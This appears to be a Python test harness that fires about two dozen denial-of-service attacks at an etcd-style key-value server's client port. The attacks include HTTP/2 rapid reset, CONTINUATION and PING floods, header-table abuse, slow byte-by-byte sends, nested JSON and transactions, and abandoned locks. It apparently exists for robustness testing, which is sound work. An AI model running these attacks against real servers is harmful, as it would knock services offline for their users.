"""Attacks on a member's port for etcd's clients. `python -m tests.process.etcd.attacks NAME HOST:PORT` repeats one
until it is ended.

The bytes are made without the code of the port. An attacker whose connection ends comes again after a short pause, as
the strangers of `harness.strangers` do.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from random import Random

import trio

from kvstore.etcd.schema import Message, make

WORKERS = 3
PAUSE_SECONDS = 0.2
VISIT_SECONDS_MAX = 5.0

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
KV, WATCH, LOCK = "/etcdserverpb.KV", "/etcdserverpb.Watch/Watch", "/v3lockpb.Lock/Lock"


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream_id.to_bytes(4) + payload


def headers(path: str) -> bytes:
    return b"\x83\x86\x44" + bytes([len(path)]) + path.encode() + b"\x41\x01a\x5f\x10application/grpc"


def call(stream_id: int, path: str, request: Message, *, is_last: bool = True) -> bytes:
    data = request.SerializeToString()
    data = b"\0" + len(data).to_bytes(4) + data
    parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
    frames = [frame(DATA, is_last and part is parts[-1], stream_id, part) for part in parts]
    return frame(HEADERS, 4, stream_id, headers(path)) + b"".join(frames)


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
NO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
WIDE_WINDOW = (
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    + frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff")
    + frame(WINDOW, 0, 0, b"\x7f\0\0\0")
)
IDS = range(1, 2_001, 2)


def post(path: str, body: bytes) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


async def drain(stream: trio.SocketStream) -> None:
    while await stream.receive_some(65_536):
        pass


async def receive_frames(stream: trio.SocketStream, kind: int, count: int) -> None:
    """Wait until `count` frames of a kind have arrived, or the connection has ended."""
    rest = b""
    while count > 0 and (data := await stream.receive_some(65_536)):
        rest += data
        while len(rest) >= 9 and len(rest) >= 9 + int.from_bytes(rest[:3]):
            count -= rest[3] == kind
            rest = rest[9 + int.from_bytes(rest[:3]) :]


async def send(stream: trio.SocketStream, data: bytes) -> None:
    """Send while the answers are read, and then read until the connection ends."""
    async with trio.open_nursery() as nursery:
        nursery.start_soon(drain, stream)
        await stream.send_all(data)


def sending(make_data: Callable[[], bytes]) -> Callable[[trio.SocketStream], Awaitable[None]]:
    """An attack that sends the same bytes at each visit."""
    data: list[bytes] = []

    async def visit(stream: trio.SocketStream) -> None:
        if not data:
            data.append(make_data())
        await send(stream, data[0])

    return visit


def nested_txn(depth: int) -> Message:
    found = make("TxnRequest")
    for _ in range(depth):
        outer = make("TxnRequest")
        outer.success.add().request_txn.CopyFrom(found)
        found = outer
    return found


def wide_txn() -> Message:
    found = make("TxnRequest")
    for _ in range(100):
        middle = found.success.add().request_txn
        for _ in range(27):
            last = middle.success.add().request_txn
            for number in range(100):
                last.success.add().request_put.key = b"%d" % number
    return found


async def reads_bytewise(stream: trio.SocketStream) -> None:
    await stream.send_all(NO_WINDOW + call(1, f"{KV}/Range", make("RangeRequest", key=b"big", range_end=b"bih")))
    while True:
        await stream.send_all(frame(WINDOW, 0, 1, b"\0\0\0\1"))
        await stream.receive_some(65_536)


async def reads_nothing(stream: trio.SocketStream) -> None:
    request = make("RangeRequest", key=b"big", range_end=b"bih")
    await stream.send_all(NO_WINDOW + b"".join(call(stream_id, f"{KV}/Range", request) for stream_id in IDS[:8]))
    await trio.sleep_forever()


async def watches_and_reads_nothing(stream: trio.SocketStream) -> None:
    create = make("WatchRequest", create_request=make("WatchCreateRequest", key=b"\0", range_end=b"\0"))
    watches = (call(stream_id, WATCH, create, is_last=False) for stream_id in IDS[:20])
    await stream.send_all(NO_WINDOW + b"".join(watches))
    await trio.sleep_forever()


async def creates_and_cancels_watches(stream: trio.SocketStream) -> None:
    async with trio.open_nursery() as nursery:
        nursery.start_soon(drain, stream)
        create = make(
            "WatchRequest", create_request=make("WatchCreateRequest", key=b"a", watch_id=1)
        ).SerializeToString()
        cancel = make("WatchRequest", cancel_request=make("WatchCancelRequest", watch_id=1)).SerializeToString()
        pair = b"".join(frame(DATA, 0, 1, b"\0" + len(each).to_bytes(4) + each) for each in (create, cancel))
        await stream.send_all(WIDE_WINDOW + frame(HEADERS, 4, 1, headers(WATCH)))
        while True:
            await stream.send_all(pair * 20)
            await trio.sleep(0.01)


def watch_requests() -> bytes:
    """A watch that is created and cancelled 1,000 times, in as few frames as possible."""
    create = make("WatchRequest", create_request=make("WatchCreateRequest", key=b"a", watch_id=1)).SerializeToString()
    cancel = make("WatchRequest", cancel_request=make("WatchCancelRequest", watch_id=1)).SerializeToString()
    pair = b"".join(b"\0" + len(each).to_bytes(4) + each for each in (create, cancel))
    return frame(DATA, 0, 1, pair * 500) + frame(DATA, 0, 1, pair * 500)


async def sends_byte_by_byte(stream: trio.SocketStream) -> None:
    data = OPENING + call(1, f"{KV}/Put", make("PutRequest", key=b"a", value=bytes(10_000)))
    for byte in data:
        await stream.send_all(bytes([byte]))


async def waits_on_all_streams(stream: trio.SocketStream) -> None:
    """Each byte comes alone, while a thousand responses wait."""
    async with trio.open_nursery() as nursery:
        calls = [call(each, f"{KV}/Range", make("RangeRequest", key=b"a")) for each in IDS[:990]]
        nursery.start_soon(stream.send_all, NO_WINDOW + b"".join(calls))
        await receive_frames(stream, HEADERS, len(calls))  # The windows hold back the data, and not the headers.
        nursery.start_soon(drain, stream)
        for byte in frame(200, 0, 0, bytes(16_000)):
            await stream.send_all(bytes([byte]))


async def sends_chunks_without_end(stream: trio.SocketStream) -> None:
    await stream.send_all(b"POST /v3/kv/put HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        await stream.send_all(b"1\r\n \r\n" * 1_000)


ATTACKS: dict[str, Callable[[trio.SocketStream], Awaitable[None]]] = {
    "rapid-reset": sending(
        lambda: (
            OPENING
            + b"".join(
                call(stream_id, f"{KV}/Range", make("RangeRequest", key=b"a"))
                + frame(RESET, 0, stream_id, b"\0\0\0\x08")
                for stream_id in IDS
            )
        )
    ),
    "continuations": sending(
        lambda: OPENING + frame(HEADERS, 0, 1, headers(WATCH)) + frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 100_000
    ),
    "packed-headers": sending(
        lambda: (
            OPENING + frame(HEADERS, 4, 1, headers(WATCH) + b"\x40\x01n\x7f\x81\x1f" + b"v" * 4_096 + b"\xbe" * 9_000)
        )
    ),
    "settings": sending(lambda: OPENING + frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 100_000),
    "settings-of-windows": sending(
        lambda: (
            OPENING
            + b"".join(frame(HEADERS, 4, each, headers(f"{KV}/Put")) for each in IDS[:990])
            + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0\0\4\0\1\0\0" * 1_365) * 200
        )
    ),
    "tables": sending(
        lambda: OPENING + b"".join(frame(HEADERS, 4, each, b"\x20" * 16_000 + headers(WATCH)) for each in IDS[:500])
    ),
    "waiting-streams": waits_on_all_streams,
    "pings": sending(lambda: OPENING + frame(PING, 0, 0, b"12345678") * 100_000),
    "priorities": sending(lambda: OPENING + frame(PRIORITY, 0, 7, b"\0\0\0\0\1") * 100_000),
    "window-updates": sending(lambda: OPENING + frame(WINDOW, 0, 0, b"\0\0\0\1") * 1_000_000),
    "reads-bytewise": reads_bytewise,
    "reads-nothing": reads_nothing,
    "watches-unread": watches_and_reads_nothing,
    "watch-loops": creates_and_cancels_watches,
    "packed-watch-loops": sending(lambda: WIDE_WINDOW + frame(HEADERS, 4, 1, headers(WATCH)) + watch_requests() * 100),
    "watches-in-json": sending(
        lambda: post("/v3/watch", json.dumps({"create_request": {"key": "YQ=="}}).encode() * 1_000)
    ),
    "half-messages": sending(
        lambda: (
            OPENING
            + b"".join(
                frame(HEADERS, 4, each, headers(f"{KV}/Put")) + frame(DATA, 0, each, b"\0\0\0\1\0a") for each in IDS
            )
        )
    ),
    "byte-by-byte": sends_byte_by_byte,
    "chunks-without-end": sends_chunks_without_end,
    "nested-json": sending(lambda: post("/v3/kv/put", b"[" * 3_000_000)),
    "unknown-fields": sending(
        lambda: post("/v3/kv/put", json.dumps({f"{number:x}": 0 for number in range(200_000)}).encode())
    ),
    "nested-transactions": sending(
        lambda: OPENING + b"".join(call(each, f"{KV}/Txn", nested_txn(45)) for each in IDS[:100])
    ),
    "wide-transactions": sending(lambda: OPENING + call(1, f"{KV}/Txn", wide_txn())),
    "locks-abandoned": sending(
        lambda: OPENING + b"".join(call(each, LOCK, make("v3lockpb.LockRequest", name=b"lock")) for each in IDS[:50])
    ),
}


async def attack(name: str, address: str) -> None:
    """Repeat an attack until cancelled."""
    host, _, port = address.rpartition(":")
    random = Random(name)

    async def visit_forever() -> None:
        while True:
            await trio.sleep(random.uniform(0.1, 1.0) * PAUSE_SECONDS)
            with suppress(OSError, BaseExceptionGroup, trio.BrokenResourceError), trio.move_on_after(VISIT_SECONDS_MAX):
                async with await trio.open_tcp_stream(host, int(port)) as stream:
                    await ATTACKS[name](stream)

    async with trio.open_nursery() as nursery:
        for _ in range(WORKERS):
            nursery.start_soon(visit_forever)


if __name__ == "__main__":
    trio.run(attack, sys.argv[1], sys.argv[2])
